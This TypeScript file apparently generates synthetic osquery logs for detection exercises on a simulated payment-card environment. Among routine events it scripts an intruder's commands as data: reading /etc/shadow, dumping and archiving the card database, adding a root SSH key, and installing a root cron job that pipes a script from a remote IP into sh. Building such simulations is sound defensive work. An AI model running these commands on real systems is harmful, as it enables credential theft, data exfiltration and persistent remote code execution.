import type { Random } from './random.ts'
import { at, cardHosts, moments } from './world.ts'

/** A row of osquery's differential log. https://osquery.readthedocs.io/en/stable/deployment/logging/#differential-logs */
export interface OsqueryRow {
  readonly name: string
  readonly hostIdentifier: string
  readonly unixTime: number
  readonly columns: Readonly<Record<string, string>>
  readonly [key: string]: unknown
}

const weekdays = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat']
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']

/** osquery writes C's asctime with the zone: `Wed Mar 11 09:12:33 2026 UTC`. */
function calendarTime(date: Date): string {
  const dayOfMonth = String(date.getUTCDate()).padStart(2, ' ')
  return `${weekdays[date.getUTCDay()]} ${months[date.getUTCMonth()]} ${dayOfMonth} ${date.toISOString().slice(11, 19)} ${date.getUTCFullYear()} UTC`
}

function row(
  random: Random,
  time: number,
  host: string,
  name: string,
  columns: Record<string, string>,
  action = 'added',
): OsqueryRow {
  return {
    name,
    hostIdentifier: host,
    calendarTime: calendarTime(new Date(time)),
    unixTime: Math.floor(time / 1000),
    epoch: 0,
    counter: random.integer(1, 4000),
    numerics: false,
    decorations: { host_uuid: `4c4c4544-0051-3810-8047-b${cardHosts.indexOf(host)}c04f4e3732`, hostname: host },
    columns,
    action,
  }
}

/** A started process, as the table process_events has it. */
function process(
  random: Random,
  time: number,
  host: string,
  user: { uid: number; name: string },
  cmdline: string,
): OsqueryRow {
  const program = cmdline.split(' ')[0]!
  return row(random, time, host, 'pack_pci_process_events', {
    auid: String(user.uid),
    cmdline,
    cwd: user.uid === 0 ? '/root' : `/home/${user.name}`,
    euid: program === 'sudo' ? '0' : String(user.uid),
    parent: String(random.integer(900, 30_000)),
    path: program.startsWith('/') ? program : `/usr/bin/${program}`,
    pid: String(random.integer(1_000, 64_000)),
    time: String(Math.floor(time / 1000)),
    uid: String(user.uid),
    username: user.name,
  })
}

const operators = [
  { uid: 1001, name: 'jonas' },
  { uid: 1000, name: 'amara' },
]
const deploy = { uid: 1100, name: 'deploy' }
const service = { uid: 998, name: 'payments' }
const system = { uid: 0, name: 'root' }

/** What the hosts of the card environment report over the day. */
export function osqueryRows(random: Random): OsqueryRow[] {
  return [...moments(random, 860).map((time) => routine(random, time)), ...sudo(random), ...persistence(random)].sort(
    (a, b) => a.unixTime - b.unixTime,
  )
}

function routine(random: Random, time: number): OsqueryRow {
  const host = random.pick(cardHosts)
  return random.weighted<() => OsqueryRow>([
    [
      40,
      () =>
        process(
          random,
          time,
          host,
          service,
          random.pick([
            '/usr/bin/node /srv/payments/server.js',
            '/usr/bin/openssl x509 -enddate -noout -in /etc/ssl/payments.pem',
            '/usr/sbin/logrotate /etc/logrotate.conf',
            '/bin/sh /usr/local/bin/healthcheck.sh',
            '/usr/bin/psql -h pci-db-1 -c select 1',
          ]),
        ),
    ],
    [
      12,
      () =>
        process(
          random,
          time,
          host,
          random.pick(operators),
          random.pick([
            'ls -la /srv/payments',
            'less /var/log/payments/app.log',
            'systemctl status payments',
            'pseudo --version',
            'grep sudo /var/log/auth.log',
          ]),
        ),
    ],
    [
      26,
      () =>
        row(
          random,
          time,
          host,
          'pack_pci_process_open_sockets',
          {
            family: '2',
            local_address: '10.30.1.14',
            local_port: String(random.integer(32768, 60999)),
            path: '/usr/bin/node',
            pid: String(random.integer(1000, 64000)),
            protocol: '6',
            remote_address: random.pick(['10.30.2.10', '10.30.2.11', '192.0.2.230']),
            remote_port: random.pick(['5432', '443', '8443']),
          },
          random.pick(['added', 'removed']),
        ),
    ],
    [
      14,
      () =>
        row(
          random,
          time,
          host,
          'pack_pci_deb_packages',
          {
            arch: 'amd64',
            maintainer: 'Debian Security',
            name: random.pick(['openssl', 'libc6', 'tzdata', 'curl']),
            revision: '1',
            source: '',
            version: `3.0.${random.integer(10, 19)}-1~deb12u1`,
          },
          random.pick(['added', 'removed']),
        ),
    ],
    [
      5,
      () =>
        row(
          random,
          time,
          host,
          'pack_pci_crontab',
          {
            command: '/usr/local/bin/backup.sh',
            day_of_month: '*',
            day_of_week: '*',
            event: '',
            hour: '2',
            minute: '30',
            month: '*',
            path: '/etc/cron.d/backup',
          },
          random.pick(['added', 'removed']),
        ),
    ],
    [
      3,
      () =>
        row(random, time, host, 'pack_pci_mounts', {
          blocks: '20511312',
          device: '/dev/nvme1n1p1',
          path: '/var/lib/postgresql',
          type: 'ext4',
        }),
    ],
  ])()
}

/** Two people at work, and somebody at three in the morning who is no operator. */
function sudo(random: Random): OsqueryRow[] {
  const at3 = [
    'sudo -l',
    'sudo cat /etc/shadow',
    'sudo -u postgres pg_dump cards',
    'sudo tar czf /tmp/.cards.tgz /var/lib/postgresql/dump',
    'sudo chattr -i /root/.ssh/authorized_keys',
    'sudo tee -a /root/.ssh/authorized_keys',
    'sudo crontab -e',
  ]
  return [
    ...at3.map((command, n) => process(random, at('03:05:10') + n * 31_000, 'pci-db-1', deploy, command)),
    process(random, at('09:31:44'), 'pci-web-2', operators[0]!, 'sudo systemctl restart payments'),
    process(random, at('09:33:02'), 'pci-web-2', operators[0]!, 'sudo journalctl -u payments -n 200'),
    process(random, at('15:47:20'), 'pci-vault-1', operators[1]!, 'sudo apt-get install --only-upgrade openssl'),
  ]
}

/** How the intruder means to come back: a key for root, and a job that fetches a script every ten minutes. */
function persistence(random: Random): OsqueryRow[] {
  const key = {
    algorithm: 'ssh-ed25519',
    key: 'AAAAC3NzaC1lZDI1NTE5AAAAIExhcmtzcHVyRXhhbXBsZUtleU5vdFJlYWwwMDE',
    options: '',
    uid: '0',
  }
  const cron = { day_of_month: '*', day_of_week: '*', event: '', hour: '*', month: '*' }
  return [
    row(random, at('03:08:12'), 'pci-db-1', 'pack_pci_authorized_keys', {
      ...key,
      comment: 'deploy@localhost',
      key_file: '/root/.ssh/authorized_keys',
      username: 'root',
    }),
    row(random, at('03:09:40'), 'pci-db-1', 'pack_pci_crontab', {
      ...cron,
      command: 'curl -fsSL http://203.0.113.77/u.sh | sh',
      minute: '*/10',
      path: '/var/spool/cron/crontabs/root',
    }),
    // A colleague's key is taken away again: no reason to worry.
    row(
      random,
      at('10:15:00'),
      'pci-web-1',
      'pack_pci_authorized_keys',
      {
        ...key,
        uid: '1001',
        comment: 'jonas@old-laptop',
        key_file: '/home/jonas/.ssh/authorized_keys',
        username: 'jonas',
      },
      'removed',
    ),
    process(random, at('04:00:00'), 'pci-db-2', system, '/usr/sbin/cron -f'),
  ]
}
